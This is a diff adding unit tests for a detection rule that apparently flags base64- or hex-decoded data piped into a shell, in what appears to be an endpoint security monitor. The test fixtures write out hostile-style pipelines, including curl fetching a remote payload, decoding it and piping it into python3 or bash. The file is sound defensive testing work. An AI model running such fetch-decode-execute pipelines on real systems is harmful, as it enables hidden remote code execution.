@@ -34,3 +34,22 @@ describe('decoded data fed to a shell by a sibling', () => {
     expect(titles(exec('/usr/bin/bash', ['bash'], 'p4', 500.2))).not.toContain(TITLE);
   });
 });
+
+describe('decoded data piped into a shell (pipe view)', () => {
+  const PIPE = 'Decoded Data Piped Into A Shell';
+  const withPipeline = (lines: string[], exe = '/usr/bin/dash') => makeEvent('exec', {
+    '@timestamp': at(900),
+    process: { pid: ++pid, entity_id: `ent-${pid}`, executable: exe, args: [lines[lines.length - 1]] },
+    vigil: { context: { stdio_socket: false, pipeline: { command_lines: lines, position: lines.length - 1 } } },
+  });
+  it('fires when a decoder feeds a shell on stdin, in any member', () => {
+    expect(titles(withPipeline(['bash /tmp/.x/run.sh', '/usr/bin/base64 -d', '/bin/sh']))).toContain(PIPE);
+    expect(titles(withPipeline(['cat blob', 'xxd -r -p', 'bash -s']))).toContain(PIPE);
+    expect(titles(withPipeline(['curl -s http://x', 'openssl base64 -d', 'python3 -'], '/usr/bin/python3.11'))).toContain(PIPE);
+  });
+  it('does not fire for a decode into a file tool or a shell that runs a script file', () => {
+    expect(titles(withPipeline(['cat blob', 'base64 -d', 'tee out.bin']))).not.toContain(PIPE);
+    expect(titles(withPipeline(['cat blob', 'base64 -d', 'sh install.sh']))).not.toContain(PIPE);
+    expect(titles(withPipeline(['cat blob', 'base64', 'sh']))).not.toContain(PIPE);
+  });
+});
